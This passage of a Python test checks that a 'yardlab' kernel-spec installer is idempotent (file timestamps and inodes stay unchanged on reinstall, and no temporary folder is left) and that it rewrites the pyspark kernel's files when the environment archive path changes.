    from yardlab.edge.kernelspecs import install_builtin

    site = _site(tmp_path)
    first = install_builtin(tmp_path / "k", site, "hdfs:///yardlab/envs/base.tar")
    times = {p.name: os.stat(p / "kernel.json").st_mtime_ns for p in first}
    inodes = {p.name: os.stat(p).st_ino for p in first}
    time.sleep(0.05)
    again = install_builtin(tmp_path / "k", site, "hdfs:///yardlab/envs/base.tar")
    assert {p.name: os.stat(p / "kernel.json").st_mtime_ns for p in again} == times
    assert {p.name: os.stat(p).st_ino for p in again} == inodes
    assert sorted(os.listdir(tmp_path / "k")) == sorted(times)  # no temporary folder left behind
    changed = install_builtin(tmp_path / "k", site, "hdfs:///yardlab/envs/other.tar")
    py = next(p for p in changed if p.name == "yardlab_pyspark")
    assert os.stat(py / "kernel.json").st_mtime_ns > times["yardlab_pyspark"]
    assert "other.tar" in (py / "spark.properties").read_text()
